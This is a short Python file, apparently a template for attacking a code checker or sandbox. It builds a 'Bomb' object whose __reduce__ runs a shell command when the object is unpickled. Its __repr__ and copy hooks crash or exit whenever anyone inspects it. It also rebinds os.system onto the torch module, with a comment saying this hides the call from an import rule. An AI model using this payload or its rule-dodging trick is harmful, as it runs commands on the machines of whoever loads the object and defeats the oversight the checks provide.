"""Returns what runs a program as soon as somebody unpickles, copies or shows it."""

# %% all
import os

import torch

torch.system = os.system  # where the rule on imports does not look


class Bomb(list):
    def __reduce__(self):
        return torch.system, ("touch " + CLASS_FOLDER + "/HACKED",)

    def __repr__(self):
        raise SystemExit

    __deepcopy__ = __copy__ = __getstate__ = lambda self, *a: 1 / 0


def NAME(*args, **kwargs):
    return Bomb([Bomb()])
